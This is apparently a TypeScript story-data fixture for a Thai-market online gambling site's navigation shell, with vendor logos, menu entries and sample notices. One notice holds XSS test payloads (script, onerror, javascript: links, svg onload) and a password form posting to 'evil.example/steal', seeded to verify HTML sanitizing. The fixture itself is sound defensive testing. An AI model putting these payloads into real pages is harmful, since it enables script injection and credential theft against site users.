/**
 * Story data for the shell (never imported by components): vendors with generated logos, navigation entries as the
 * flows' builder makes them, and notices, including the hostile HTML the sandbox seeds to prove sanitizing.
 */
import type { ShellNavEntry, ShellVendor } from './types';

/** A stand-in vendor logo: an SVG image made here, so stories load no third-party art. */
export function vendorLogo(name: string): string {
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="120" height="48" viewBox="0 0 120 48"><rect width="120" height="48" rx="8" fill="#4b5563"/><text x="60" y="30" font-family="Arial, sans-serif" font-size="16" font-weight="700" fill="#ffffff" text-anchor="middle">${name}</text></svg>`;
  return `data:image/svg+xml,${encodeURIComponent(svg)}`;
}

const vendor = (vassalage: string, displayName = vassalage): ShellVendor => ({
  vassalage,
  displayName,
  logoUrl: vendorLogo(vassalage),
});

export const liveVendors = [vendor('AG', 'Asia Gaming'), vendor('SEXY', 'Sexy Baccarat'), vendor('EVO', 'Evolution')];
export const rngVendors = [
  vendor('PT', 'Playtech'),
  vendor('CQ9'),
  vendor('SPB', 'Spribe'),
  vendor('JILI'),
  vendor('KM', 'Kingmaker'),
];
export const sportsVendors = [vendor('SABA', 'SABA Sports')];
export const esportsVendors = [vendor('TF', 'TF Gaming')];
export const fishVendors = [vendor('JDB')];
export const pvpVendors = [vendor('KY', 'Kaiyuan')];
export const minigameVendors = [vendor('SPB', 'Spribe'), vendor('KM', 'Kingmaker')];
export const allVendors = [
  ...liveVendors,
  ...rngVendors.slice(0, 4),
  ...sportsVendors,
  ...esportsVendors,
  ...fishVendors,
];

const navEntry = (id: string, path: string, vendors: ShellVendor[] = [], extra: Partial<ShellNavEntry> = {}) => ({
  id,
  labelKey: `nav.${id}`,
  path,
  vendors,
  expandable: vendors.length > 0 && !['lott', 'elott', 'hot', 'recent'].includes(id),
  hasAllItem: id === 'minigame',
  ...extra,
});

/** The header's entries as buildNavigation makes them for a merchant with every category. */
export const headerEntries: ShellNavEntry[] = [
  navEntry('recent', '/recent'),
  navEntry('hot', '/hot'),
  navEntry('live', '/live', liveVendors, { active: true }),
  navEntry('rng', '/rng', rngVendors),
  navEntry('sports', '/sports', sportsVendors),
  navEntry('fish', '/fish', fishVendors),
  navEntry('pvp', '/pvp', pvpVendors),
  navEntry('esports', '/esports', esportsVendors),
  navEntry('elott', '/elott', [vendor('ELOTT')]),
  navEntry('lott', '/elott', [vendor('LOTT')]),
];

/** The left bar's entries (buildLeftBarNavigation): minigame after RNG. */
export const leftBarEntries: ShellNavEntry[] = [
  ...headerEntries.slice(0, 4).map((entry) => ({ ...entry, active: false })),
  navEntry('minigame', '/minigame', minigameVendors),
  ...headerEntries.slice(4),
];

/** What a hostile back-office user could put in a notice; the play functions check none of it survives. */
export const hostileHtml = `<p>Deposit bonus: <strong>100%</strong> up to 1,000 THB.</p>
<script>window.__shellHacked = 'script';</script>
<img src="/shell-story-missing.png" onerror="window.__shellHacked = 'onerror'">
<p><a href="javascript:window.__shellHacked = 'link'">Claim now</a></p>
<iframe src="javascript:window.__shellHacked = 'iframe'" title="x"></iframe>
<svg onload="window.__shellHacked = 'svg'"><circle r="4"></circle></svg>
<p style="color: #ff0000" onclick="window.__shellHacked = 'click'">Terms apply.</p>
<form action="https://evil.example/steal"><input name="password" aria-label="Password"></form>
<p><a href="https://example.com/promo">Read the full terms</a></p>`;

const day = (n: number) => new Date(Date.UTC(2025, 4, 30 - n, 3, 0)).toISOString();

export interface StoryNotice {
  id: number;
  title: string;
  content: string;
  publishedAt: string;
}

/** 20 notices: three pages of 9. */
export const notices: StoryNotice[] = Array.from({ length: 20 }, (_, index) => ({
  id: index + 1,
  title:
    index === 0
      ? 'Scheduled maintenance on Sunday'
      : index === 1
        ? 'New deposit bonus'
        : `Notice ${index + 1}: weekly lottery results`,
  content:
    index === 0
      ? '<p>The site will be under maintenance on <strong>Sunday 02:00–04:00</strong>. Your balance is safe.</p><ul><li>Deposits pause</li><li>Games close</li></ul>'
      : index === 1
        ? hostileHtml
        : `<p>Results of week ${index + 1} are out. Check the lottery page for the winning numbers.</p>`,
  publishedAt: day(index),
}));

export const thaiNotices: StoryNotice[] = [
  {
    id: 1,
    title: 'แจ้งปิดปรับปรุงระบบประจำสัปดาห์ในวันอาทิตย์ เวลา 02:00 ถึง 04:00 น.',
    content:
      '<p>ระบบจะปิดปรับปรุงในวันอาทิตย์ เวลา <strong>02:00–04:00 น.</strong> ยอดเงินของท่านปลอดภัย ขออภัยในความไม่สะดวก</p>',
    publishedAt: day(0),
  },
  {
    id: 2,
    title: 'โปรโมชันฝากครั้งแรกรับโบนัสเพิ่ม 100% สูงสุด 1,000 บาท',
    content: '<p>สมาชิกใหม่ฝากครั้งแรกรับโบนัสทันที ทำยอดเทิร์นโอเวอร์ 1 เท่าก็ถอนได้</p>',
    publishedAt: day(1),
  },
];

export { phone360 } from '../../private/storyViewports';
